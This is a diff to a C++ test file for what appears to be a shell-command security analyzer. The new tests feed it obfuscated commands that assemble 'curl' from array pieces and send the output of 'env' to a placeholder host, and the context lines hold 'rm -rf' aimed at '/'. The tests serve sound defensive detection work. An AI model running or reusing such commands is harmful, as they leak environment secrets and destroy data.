@@ -415,3 +415,19 @@ TEST_CASE("an unknown (empty) operand of mv or rsync is not the root") {
   CHECK(has_marker(analyze("f(){ local dir=\"$1\"; rm -rf \"$dir\"; }; f /"), "destructive_target"));
   CHECK_FALSE(has_marker(analyze("cleanup(){ rm -rf \"$1\"; }; cleanup /tmp/work-123"), "destructive_target"));
 }
+
+TEST_CASE("associative arrays and \"${a[*]}\" joined by IFS build command names") {
+  auto facts = analyze("declare -A m=([t]=curl [u]=x); ${m[t]} -d \"$(env)\" https://x.example.com");
+  CHECK(has_command(facts, "curl"));
+  CHECK(has_flow(facts, "env_dump", "network"));
+  CHECK(has_flow(analyze("m[t]=cu; m[u]=rl; ${m[t]}${m[u]} -d \"$(env)\" https://x.example.com"), "env_dump", "network"));
+  CHECK(has_flow(analyze("c=(c u r l); \"$(IFS=; echo \"${c[*]}\")\" -d \"$(env)\" https://x.example.com"), "env_dump",
+                 "network"));
+  const auto* echo = command_named(analyze("a=(1 2 3); echo \"${a[*]}\""), "echo");
+  REQUIRE(echo);
+  REQUIRE(echo->argv.size() == 2);
+  CHECK(echo->argv[1] == "1 2 3");
+  const auto* second = command_named(analyze("a=(x y); a[1]=z; echo ${a[1]}"), "echo");
+  REQUIRE(second);
+  CHECK(second->argv.back() == "z");
+}
